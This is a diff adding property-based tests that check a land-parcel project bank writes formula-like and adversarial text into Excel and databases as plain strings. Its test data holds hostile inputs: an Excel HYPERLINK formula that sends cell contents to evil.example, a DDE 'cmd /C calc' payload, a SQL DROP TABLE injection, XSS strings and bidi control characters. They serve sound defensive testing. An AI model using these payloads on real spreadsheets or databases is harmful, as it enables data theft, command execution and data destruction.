@@ -19,6 +19,7 @@ import warnings
 from pathlib import Path
 
 import openpyxl
+from hypothesis import strategies as st
 import pandas as pd
 import pytest
 from pgcluster import postgis_server  # noqa: F401  (session fixture)
@@ -367,3 +368,125 @@ def test_a_hot_journal_a_read_only_opener_cannot_roll_back(tmp_path, make_read_o
     with ProjectBank.open(path) as bank:  # read-write: rolled back to the state before
         pd.testing.assert_frame_equal(bank.entries(), before)
     assert not Path(f"{path}-journal").exists()
+
+
+# --- D4: Excel cells hold text; property test over every text the bank keeps ------------------
+
+
+def _formula_candidates() -> pd.DataFrame:
+    return candidates(["P1"]).assign(
+        parcel_id=["=1+1"], enterprise=['=HYPERLINK("http://evil.example/?"&A1,"x")'],
+        reason_text=["@SUM(A1)"],
+    )  # fmt: skip
+
+
+def test_export_excel_writes_formula_text_as_text(target, tmp_path):
+    with ProjectBank.open(target) as bank:
+        bank.sync(_formula_candidates(), as_of="2021-12-31", by="=cmd|' /C calc'!A0")
+        out = bank.export_excel(tmp_path / "b.xlsx")
+    book = openpyxl.load_workbook(out)
+    listing = book["项目清单"]
+    header = [c.value for c in listing[1]]
+    row = {h: c for h, c in zip(header, listing[2], strict=True)}
+    assert (row["宗地编号"].data_type, row["宗地编号"].value) == ("s", "=1+1")
+    assert (row["原因"].data_type, row["原因"].value) == ("s", "@SUM(A1)")
+    assert (row["enterprise"].data_type, row["enterprise"].value) == (
+        "s", '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    )  # fmt: skip
+    syncs = book["同步记录"]
+    by = [c for c in syncs[2] if c.value == "=cmd|' /C calc'!A0"]
+    assert [c.data_type for c in by] == ["s"]
+    assert not [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]
+
+
+def test_write_bank_excel_writes_formula_text_as_text(tmp_path):
+    out = write_bank_excel(_formula_candidates(), tmp_path / "bank.xlsx")
+    sheet = openpyxl.load_workbook(out)["项目库"]
+    header = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
+    assert (row["宗地编号"].data_type, row["宗地编号"].value) == ("s", "=1+1")
+    assert (row["企业名称"].data_type, row["企业名称"].value) == (
+        "s", '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    )  # fmt: skip
+
+
+PIECES = [
+    "{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{#", "#}", "{{", "}}", "<script>alert(1)</script>",
+    "</script>", "<img src=x onerror=alert(1)>", "&amp;", "=1+1", "+1", "-1", "@A1", "\t", "\n",
+    "=HYPERLINK(\"http://x.example\",\"y\")", "'", '"', "\\", "\\N", "%s", "%_", "?", ";", "--",
+    "'; DROP TABLE bank_entries;--", "\u202e", "\u200f", "\u2066", "宗地-青岛/001", "用地面积(亩)",
+    "🏭", "👩‍👩‍👧", "é", "e\u0301", "  ", "_x000D_", "\u2028", "\r", "\r\n",
+]
+_TEXT = (
+    st.lists(
+        st.one_of(
+            st.sampled_from(PIECES),
+            st.text(
+                st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\t\n"),
+                min_size=1, max_size=8,
+            ),
+        ),  # fmt: skip
+        min_size=1,
+        max_size=4,
+    )
+    .map("".join)
+    .filter(lambda t: t.strip() != "")
+)
+#: How many adversarial examples each sink received (reported by the lead).
+SINK_COUNTS: dict[str, int] = {}
+
+
+def _round_trip_property(target: str, tmp_path: Path, max_examples: int) -> None:
+    from hypothesis import HealthCheck, given, settings
+
+    counter = iter(range(10**6))
+    bank = ProjectBank.open(target)
+
+    @settings(max_examples=max_examples, deadline=None, database=None,
+              suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
+    @given(texts=st.lists(_TEXT, min_size=7, max_size=7))
+    def check(texts):
+        k = next(counter)
+        pid, cid, zone, reason, by_sync, by_status, note = texts
+        pid, cid = f"{pid}|{k}", f"{cid}|c{k}"  # unique per example; the text still leads
+        cands = candidates(["P1"]).assign(
+            parcel_id=[pid], candidate_id=[cid], zone_id=[zone], reason_text=[reason],
+            enterprise=[note],
+        )  # fmt: skip
+        bank.sync(cands, as_of="2021-12-31", by=by_sync, note=note)
+        bank.set_status(cid, "verified", by=by_status, note=note)
+        entry = bank.entries().set_index("candidate_id").loc[cid]
+        assert [entry[c] for c in ("parcel_id", "zone_id", "reason_text", "enterprise")] == [
+            pid, zone, reason, note,
+        ]  # fmt: skip
+        history = bank.history(cid)
+        assert history[["event", "by", "note"]].to_numpy().tolist() == [
+            ["added", by_sync, note], ["status", by_status, note],
+        ]  # fmt: skip
+        out = bank.export_excel(tmp_path / "bank.xlsx")
+        book = openpyxl.load_workbook(out)
+        listing = book["项目清单"]
+        header = [c.value for c in listing[1]]
+        rows = [dict(zip(header, r, strict=True)) for r in listing.iter_rows(min_row=2)]
+        row = next(r for r in rows if r["候选编号"].value == excel_form(cid))
+        for label, value in (("宗地编号", pid), ("集聚区编号", zone), ("原因", reason),
+                             ("enterprise", note), ("状态变更人", by_status)):  # fmt: skip
+            assert (row[label].data_type, row[label].value) == ("s", excel_form(value))
+        kind = "gpkg" if target.endswith(".gpkg") else "postgis"
+        SINK_COUNTS[kind] = SINK_COUNTS.get(kind, 0) + 1
+        SINK_COUNTS["excel"] = SINK_COUNTS.get("excel", 0) + 1
+
+    try:
+        check()
+    finally:
+        bank.close()
+    logging.getLogger(__name__).info("adversarial examples per sink: %s", SINK_COUNTS)
+
+
+def excel_form(text: str) -> str:
+    """What an xlsx cell gives back: XML reads a lone or CRLF carriage return as a newline."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def test_adversarial_text_round_trips_through_the_bank_and_its_excel(target, tmp_path):
+    _round_trip_property(target, tmp_path, 40 if target.endswith(".gpkg") else 25)
